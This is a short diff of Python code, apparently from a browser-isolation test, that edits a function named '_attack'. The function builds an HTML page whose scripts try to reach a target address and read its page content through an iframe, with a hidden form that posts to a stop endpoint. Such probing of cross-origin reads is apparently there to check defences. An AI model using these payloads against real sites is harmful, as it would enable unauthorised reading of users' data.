@@ -341,12 +341,13 @@ def _attack(target: str) -> str:
             " s.onopen = ok; s.onerror = no; })"
         ),
         (
-            "new Promise((ok, no) => { document.querySelector('iframe').onload = () => {"
-            " try { ok(frames[0].document.body.innerHTML); } catch (e) { no(e); } }; })"
+            f'new Promise((ok, no) => {{ const f = document.createElement("iframe"); f.src = "{target}/";'
+            " f.onload = () => { try { ok(f.contentWindow.document.body.innerHTML); } catch (e) { no(e); } };"
+            " document.body.append(f); })"
         ),
     )
     calls = ", ".join(f"() => {one}" for one in tries)
-    return f"""<iframe src="{target}/"></iframe><iframe name="sink"></iframe>
+    return f"""<iframe name="sink"></iframe>
     <form id="form" method="post" target="sink" enctype="text/plain" action="{stop}"><input name="{{}}"></form>
     <script>
     window.reached = [];
